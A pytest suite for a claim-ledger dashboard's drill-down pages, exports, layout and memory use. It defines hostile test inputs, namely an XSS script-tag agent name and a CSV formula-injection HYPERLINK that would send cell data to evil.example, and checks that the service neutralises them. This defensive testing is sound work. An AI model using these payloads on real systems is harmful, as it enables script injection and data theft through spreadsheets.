"""The dashboard's drill-down: the count of matching claims, names and unmet codes as links to
the filtered list, exports of it, the date range on /stats, one agent's page, and the claim
page's failed tests, lines for the agent and links. A real uvicorn over a real SQLite ledger
(and PostgreSQL where the pages are read from either), driven in Debian's Chromium at 1280 and
800 px, with the layout measured: no word of a cell breaks across lines."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import sqlite3
import tracemalloc
from collections.abc import Iterator
from dataclasses import dataclass, replace
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, urlsplit

import httpx
import pytest
from playwright.sync_api import Browser
from playwright.sync_api import Page as BrowserPage

from completion_claim.service import dashboard
from completion_claim.service._pages import agent_url
from completion_claim.service.app import create_app
from completion_claim.service.ledger import Ledger
from completion_claim.service.records import NewStart
from completion_claim.service.settings import ServiceSettings
from completion_claim.trust.keys import SigningKey, write_private_key
from tests.builders import at, claim_doc, evidence, mutation
from tests.service.conftest import LOG_KEY, fresh_entry

from ._dashboard import Parsed, assert_inert, decision, serving

# Names a submitter chooses (a token's name), each hostile in its own way.
SCRIPT_AGENT = "<script>alert(1)</script> \"quoted\" 'single' & co"
LONG_AGENT = "agent-" + "x" * 300
FORMULA_AGENT = '=HYPERLINK("http://evil.example/?"&A1,"open")'
FORMULA_TASK = "@SUM(1+1)"
FORMULA_OUTCOME = "-2+3 is what I did"
FAILURE = {"test": "tests.test_calc::test_add", "outcome": "failed", "message": "assert -1 == 5"}
DAY_TWO = at(90_000).date().isoformat()
WIDTHS = (1280, 800)
SHOTS = Path("/tmp/h12-screenshots")  # kept for a person to look at after the run


@dataclass(frozen=True)
class Served:
    base: str
    start: int
    claims: dict[str, int]


def failing_run_with_failures() -> dict[str, Any]:
    return claim_doc(
        evidence_items=[
            evidence(
                check_type="test_run",
                target="python -m pytest -q",
                expected={"exit_code": 0},
                observed_value={"exit_code": 1, "passed": 3, "failed": 1},
                details={"failures": [FAILURE]},
            )
        ],
        task={"id": "fix-calc", "description": "Fix add"},
        claimed_outcome="Fixed add; all tests pass.",
    )


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    folder = tmp_path_factory.mktemp("drilldown")
    key = SigningKey.generate()
    write_private_key(str(folder / "service.key"), key)
    url = f"sqlite:///{folder / 'ledger.sqlite'}"
    ledger = Ledger.open(url, key)
    start = ledger.append_start(
        NewStart("/srv/observed/repo", "s1", "ab" * 20, "2026-08-27T18:00:00Z", "ops", at(50))
    ).index
    entries = {
        "honest": decision(claim_doc(), "ci/main", at(100)),
        "gate": replace(
            decision(failing_run_with_failures(), "gate", at(101)), via="gate", start_index=start
        ),
        "script": decision(claim_doc(evidence_items=[]), SCRIPT_AGENT, at(102)),
        "long": decision(claim_doc(task={"id": "t-" + "y" * 300}), LONG_AGENT, at(103)),
        "formula": decision(
            claim_doc(
                [mutation(t=89_980)],
                [evidence(89_990, observed_value={"billing_zip": "10001"})],
                task={"id": FORMULA_TASK},
                claimed_outcome=FORMULA_OUTCOME,
            ),
            FORMULA_AGENT,
            at(90_000),
        ),
        "later": decision(claim_doc(evidence_items=[]), "ci/main", at(90_001)),
    }
    claims = {name: ledger.append(new).index for name, new in entries.items()}
    settings = ServiceSettings(ledger_url=url, key_path=folder / "service.key")
    try:
        with serving(create_app(settings, ledger)) as base:
            yield Served(base, start, claims)
    finally:
        ledger.close()


class Links(HTMLParser):
    """Every link's address and text, as a browser reads them (entities decoded)."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, str]] = []
        self._open: list[str] = []
        self._href: str | None = None
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "a":
            self._href = dict(attrs).get("href") or ""
            self._open = []

    def handle_data(self, data: str) -> None:
        if self._href is not None:
            self._open.append(data)

    def handle_endtag(self, tag: str) -> None:
        if tag == "a" and self._href is not None:
            self.found.append((self._href, "".join(self._open)))
            self._href = None

    def to(self, prefix: str) -> list[str]:
        return [href for href, _ in self.found if href.startswith(prefix)]


def get(served: Served, path: str) -> httpx.Response:
    answer = httpx.get(served.base + path)
    assert answer.status_code == 200, answer.text[:300]
    return answer


def listed(served: Served, path: str) -> list[int]:
    return [int(i) for i in re.findall(r'data-index="(\d+)"', get(served, path).text)]


def count_line(served: Served, path: str) -> str:
    found = re.search(r'<span class="count">([^<]*)</span>', get(served, path).text)
    assert found is not None
    return found[1]


def csv_rows(served: Served, query: str = "") -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(get(served, "/claims.csv" + query).text)))


# --- counts, links and exports --------------------------------------------------------------


def test_the_count_and_the_exports_leave_the_start_out(served: Served) -> None:
    claims = sorted(served.claims.values(), reverse=True)
    assert served.start not in claims
    assert listed(served, "/") == claims
    assert count_line(served, "/") == f"{len(claims)} claims"
    assert [int(row["index"]) for row in csv_rows(served)] == claims
    rows = get(served, "/claims.json").json()
    assert [row["index"] for row in rows] == claims
    gated = next(row for row in rows if row["index"] == served.claims["gate"])
    assert (gated["via"], gated["start_index"]) == ("gate", served.start)
    assert count_line(served, "/?agent=ci%2Fmain") == "2 claims"
    assert count_line(served, f"/?agent=ci%2Fmain&since={DAY_TWO}") == "1 claim"


def test_the_exports_are_attachments_streamed_a_page_at_a_time(
    served: Served, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(dashboard, "EXPORT_PAGE", 2)  # six claims: three pages, read in turn
    for kind in ("csv", "json"):
        with httpx.stream("GET", f"{served.base}/claims.{kind}?state=verified") as answer:
            assert answer.status_code == 200
            assert answer.headers["content-disposition"] == f'attachment; filename="claims.{kind}"'
            assert answer.headers["x-content-type-options"] == "nosniff"
            assert answer.headers["content-security-policy"] == "default-src 'none'"
            # Sent as it is read: no length known in advance.
            assert "content-length" not in answer.headers
            assert answer.headers["transfer-encoding"] == "chunked"
            body = answer.read().decode()
        assert answer.headers["content-type"].startswith("text/csv" if kind == "csv" else "appl")
        assert body.count("/claims/") == 2  # the two verified claims, each once
    assert [row["index"] for row in get(served, "/claims.json").json()] == sorted(
        served.claims.values(), reverse=True
    )
    bad = httpx.get(served.base + "/claims.csv?state=maybe")
    assert bad.status_code == 422
    assert "state: 'maybe' is not one of" in assert_inert(bad.text).text


def test_attack_71_a_csv_export_cell_never_starts_a_formula(served: Served) -> None:
    rows = {int(row["index"]): row for row in csv_rows(served)}
    formula = rows[served.claims["formula"]]
    assert formula["agent"] == "'" + FORMULA_AGENT
    assert formula["task"] == "'" + FORMULA_TASK
    assert formula["outcome"] == "'" + FORMULA_OUTCOME
    for row in rows.values():
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row.values())
    # The honest control: names that start no formula are written as they are, and the JSON
    # export (no spreadsheet reads it as formulas) keeps every value as submitted.
    honest = rows[served.claims["honest"]]
    assert (honest["agent"], honest["task"]) == ("ci/main", "deploy-4471")
    assert honest["outcome"] == "Updated the billing address on account 4471."
    assert honest["url"] == f"/claims/{served.claims['honest']}"
    exported = {row["index"]: row for row in get(served, "/claims.json").json()}
    assert exported[served.claims["formula"]]["agent"] == FORMULA_AGENT
    assert "mutation_uncovered" in exported[served.claims["formula"]]["unmet"]


@pytest.mark.parametrize("name", ["script", "long", "formula", "honest"])
def test_a_name_links_to_the_list_of_exactly_its_claims(served: Served, name: str) -> None:
    index = served.claims[name]
    agent = {"script": SCRIPT_AGENT, "long": LONG_AGENT, "formula": FORMULA_AGENT}.get(
        name, "ci/main"
    )
    page = get(served, "/").text
    row = page[page.index(f'data-index="{index}"') :].split("</tr>")[0]
    links = Links(row)
    (agent_link,) = links.to("/agent?")
    (task_link,) = [href for href in links.to("/?") if "task=" in href]
    (policy_link,) = [href for href in links.to("/?") if "policy=" in href]
    assert parse_qs(urlsplit(agent_link).query) == {"agent": [agent]}
    # The agent's page names it whole, and its list link shows its claims and no other.
    agent_page = get(served, agent_link).text
    assert Parsed(agent_page).text.count(agent) >= 1
    (its_claims,) = [href for href, text in Links(agent_page).found if text == "Its claims"]
    assert index in listed(served, its_claims)
    rows = {int(row["index"]): row for row in csv_rows(served, its_claims[1:])}
    assert {row["agent"].removeprefix("'") for row in rows.values()} == {agent}
    assert index in listed(served, task_link)
    assert len(listed(served, policy_link)) == len(served.claims)


def test_an_unmet_code_links_to_the_claims_that_name_it(served: Served) -> None:
    page = get(served, f"/claims/{served.claims['formula']}").text
    assert "/?unmet=mutation_uncovered" in Links(page).to("/?unmet=")
    unmet_link = "/?unmet=mutation_uncovered"
    shown = listed(served, unmet_link)
    assert served.claims["formula"] in shown
    assert served.claims["honest"] not in shown
    assert count_line(served, unmet_link) == f"{len(shown)} claims"
    assert listed(served, "/?unmet=no_such_code") == []


# --- stats, agents, the claim page -----------------------------------------------------------


def totals(page: str) -> list[str]:
    cells = re.search(r'<table class="totals">.*?<tbody><tr>(.*?)</tr>', page, re.S)
    assert cells is not None
    return [Parsed(cell).text for cell in re.findall(r"<td[^>]*>(.*?)</td>", cells[1], re.S)]


def test_the_stats_page_takes_a_date_range(served: Served) -> None:
    assert totals(get(served, "/stats").text)[0] == str(len(served.claims))
    day_two = get(served, f"/stats?since={DAY_TWO}").text
    assert totals(day_two)[:4] == ["2", "0", "1", "1"]
    assert f'value="{DAY_TWO}"' in day_two
    assert totals(get(served, f"/stats?until={DAY_TWO}").text)[0] == str(len(served.claims) - 2)
    # The by-agent table links each agent's page for the same range.
    assert f"/agent?agent=ci%2Fmain&amp;since={DAY_TWO}" in day_two
    bad = httpx.get(served.base + "/stats?since=yesterday")
    assert bad.status_code == 422


def test_an_agents_page_shows_its_verdicts_its_false_success_rate_and_its_top_unmet(
    served: Served,
) -> None:
    page = get(served, "/agent?agent=gate").text
    text = " ".join(Parsed(page).text.split())
    assert totals(page)[:4] == ["1", "0", "0", "1"]
    assert "100.0% (1 of 1 claims that said done were refuted)" in text
    assert "of the claims whose outcome said the work was done" in text
    assert page.count("<svg") == 2  # verdicts over time and top unmet: no by-agent chart
    assert "/?agent=gate&amp;unmet=mutation_uncovered" in page
    honest = " ".join(Parsed(get(served, "/agent?agent=ci%2Fmain").text).text.split())
    assert "0.0% (0 of 2 claims that said done were refuted)" in honest
    missing = httpx.get(served.base + "/agent")
    assert missing.status_code == 422
    assert "agent: name the agent" in missing.text


def test_the_claim_page_lists_failed_tests_and_the_agents_lines_and_links_raw_json_and_proof(
    served: Served,
) -> None:
    index = served.claims["gate"]
    page = get(served, f"/claims/{index}").text
    parsed = assert_inert(page)
    text = " ".join(parsed.text.split())
    assert "tests.test_calc::test_add failed: assert -1 == 5" in text
    lines = re.search(r'<ul class="for-agent">(.*?)</ul>', page, re.S)
    assert lines is not None
    assert "tests.test_calc::test_add failed: assert -1 == 5" in Parsed(lines[1]).text
    links = Links(page)
    raw = get(served, links.to("/v1/claims/")[0]).json()
    assert (raw["index"], raw["via"], raw["start_index"]) == (index, "gate", served.start)
    assert get(served, links.to("/v1/proof/")[0]).json()["proof"]["index"] == index
    start = get(served, links.to("/v1/starts/")[0]).json()
    assert (start["index"], start["via"]) == (served.start, "start")
    # A verified claim has nothing for the agent, and no failed tests.
    honest = get(served, f"/claims/{served.claims['honest']}").text
    assert "for-agent" not in honest
    assert "Failed tests" not in honest


# --- in Chromium at 1280 and 800 px -----------------------------------------------------------

# Every word of every text node under the matched elements: a word whose boxes sit on more than
# one line was broken; a cell whose content is wider than the cell overflows.
BROKEN_WORDS = """selector => {
  const found = [];
  for (const cell of document.querySelectorAll(selector)) {
    if (cell.scrollWidth > cell.clientWidth + 1) found.push('overflows: ' + cell.textContent);
    const walker = document.createTreeWalker(cell, NodeFilter.SHOW_TEXT);
    for (let node = walker.nextNode(); node; node = walker.nextNode()) {
      for (const match of node.data.matchAll(/\\S+/g)) {
        const range = document.createRange();
        range.setStart(node, match.index);
        range.setEnd(node, match.index + match[0].length);
        const tops = new Set([...range.getClientRects()].map(r => Math.round(r.top)));
        if (tops.size > 1) found.push('broken: ' + match[0]);
      }
    }
  }
  return found;
}"""
PAGE_OVERFLOW = "() => document.documentElement.scrollWidth - window.innerWidth"


def look(page: BrowserPage, folder: Path, name: str) -> None:
    path = folder / f"{name}.png"
    page.screenshot(path=str(path), full_page=True)
    assert path.read_bytes().startswith(b"\x89PNG")
    SHOTS.mkdir(exist_ok=True)
    shutil.copy(path, SHOTS / path.name)


@pytest.mark.parametrize("width", WIDTHS)
def test_the_list_breaks_no_word_and_fits_the_window(
    served: Served, browser: Browser, width: int, tmp_path: Path
) -> None:
    context = browser.new_context(viewport={"width": width, "height": 900})
    try:
        page = context.new_page()
        page.goto(served.base + "/")
        assert page.locator("tr[data-index]").count() == len(served.claims)
        look(page, tmp_path, f"list-{width}")
        assert page.evaluate(BROKEN_WORDS, "table.claims td") == []
        assert page.evaluate(PAGE_OVERFLOW) <= 0
        assert page.locator(".count").inner_text() == f"{len(served.claims)} claims"
        if width < 900:  # a card per claim, each line labelled
            label = page.locator("table.claims td.agent").first.evaluate(
                "e => getComputedStyle(e, '::before').content"
            )
            assert label == '"agent: "'
        for path, name in (
            (f"/claims/{served.claims['gate']}", "claim"),
            ("/stats", "stats"),
            ("/agent?agent=gate", "agent"),
            (f"/claims/{served.claims['long']}", "claim-long"),
            (agent_url(LONG_AGENT), "agent-long"),
        ):
            page.goto(served.base + path)
            assert page.evaluate(PAGE_OVERFLOW) <= 0, path
            look(page, tmp_path, f"{name}-{width}")
    finally:
        context.close()


def test_the_word_measurement_sees_a_broken_word(browser: Browser) -> None:
    """The control for the measurement above: a cell too narrow for its word, allowed to
    break it, is reported."""
    page = browser.new_page()
    try:
        page.set_content(
            '<table><tr><td style="width:60px;max-width:60px;overflow-wrap:anywhere">'
            "abcdefghijklmnopqrstuvwxyz</td><td>fits</td></tr></table>"
        )
        assert page.evaluate(BROKEN_WORDS, "td") == ["broken: abcdefghijklmnopqrstuvwxyz"]
    finally:
        page.close()


def test_following_a_hostile_name_in_chromium_runs_nothing(
    served: Served, page: BrowserPage, dialogs: list[str]
) -> None:
    page.goto(served.base + "/")
    row = page.locator(f'tr[data-index="{served.claims["script"]}"]')
    row.locator("td.agent a").click()
    page.wait_for_url("**/agent?agent=*")
    assert page.locator(".agent-name").inner_text() == SCRIPT_AGENT
    page.get_by_role("link", name="Its claims").click()
    page.wait_for_url("**/?agent=*")
    assert page.locator("input[name=agent]").input_value() == SCRIPT_AGENT
    shown = page.locator("tr[data-index]").evaluate_all("rows => rows.map(r => r.dataset.index)")
    assert shown == [str(served.claims["script"])]
    assert dialogs == []


# --- either backend -----------------------------------------------------------------------------


def test_counts_filters_and_exports_read_either_backend(
    ledger: Ledger, ledger_url: str, tmp_path: Path
) -> None:
    key_path = tmp_path / "service.key"
    write_private_key(str(key_path), LOG_KEY)
    start = ledger.append_start(
        NewStart("/srv/observed/repo", None, None, "2026-08-27T18:00:00Z", "ops", at(0))
    )
    ledger.append(fresh_entry("verified"))
    ledger.append(fresh_entry("refuted", agent="ci-runner-2"))
    settings = ServiceSettings(ledger_url=ledger_url, key_path=key_path)
    with serving(create_app(settings, ledger)) as base:
        page = httpx.get(base + "/").text
        assert '<span class="count">2 claims</span>' in page
        refuted = httpx.get(base + "/?unmet=mutation_uncovered").text
        assert re.findall(r'data-index="(\d+)"', refuted) == ["2"]
        exported = httpx.get(base + "/claims.json").json()
        assert [row["index"] for row in exported] == [2, 1]
        assert start.index not in [row["index"] for row in exported]
        agent = Parsed(httpx.get(base + "/agent?agent=ci-runner-2").text).text
        assert "1 of 1 claims that said done were refuted" in agent
        assert json.loads(httpx.get(base + "/claims.json?agent=nobody").text) == []


# --- a large ledger -----------------------------------------------------------------------------

LARGE = 20_000


def test_an_export_of_a_large_ledger_holds_one_page_in_memory(tmp_path: Path) -> None:
    """20,000 claims of 10 KiB (one real entry's row copied below it: the export reads rows, not
    proofs), 200 MiB of leaves, export whole while the process's memory grows by a page's worth.
    (100,000 claims of 2 KiB measure the same, in three minutes here.)"""
    database = tmp_path / "ledger.sqlite"
    key_path = tmp_path / "service.key"
    write_private_key(str(key_path), LOG_KEY)
    ledger = Ledger.open(f"sqlite:///{database}", LOG_KEY)
    ledger.append(fresh_entry("refuted", outcome="done " + "x" * 10_000))
    with sqlite3.connect(database) as conn:
        row = conn.execute("SELECT * FROM ledger_entries WHERE entry_index = 0").fetchone()
        marks = ",".join("?" * len(row))
        conn.executemany(
            f"INSERT INTO ledger_entries VALUES ({marks})",
            ((index, *row[1:]) for index in range(1, LARGE)),
        )
        leaves = conn.execute("SELECT sum(length(leaf)) FROM ledger_entries").fetchone()[0]
    conn.close()
    assert leaves > 200 * 1024 * 1024
    settings = ServiceSettings(ledger_url=f"sqlite:///{database}", key_path=key_path)
    try:
        with serving(create_app(settings, ledger)) as base:
            assert f'<span class="count">{LARGE} claims</span>' in httpx.get(base + "/").text
            tracemalloc.start()
            try:
                lines = 0
                with httpx.stream("GET", base + "/claims.csv", timeout=600) as answer:
                    for chunk in answer.iter_lines():
                        lines += bool(chunk)
                _, peak = tracemalloc.get_traced_memory()
            finally:
                tracemalloc.stop()
    finally:
        ledger.close()
    assert lines == LARGE + 1  # the header and every claim
    # Here: under 10 MiB; the same export holding every row at once peaked at 220 MiB.
    assert peak < 32 * 1024 * 1024, peak
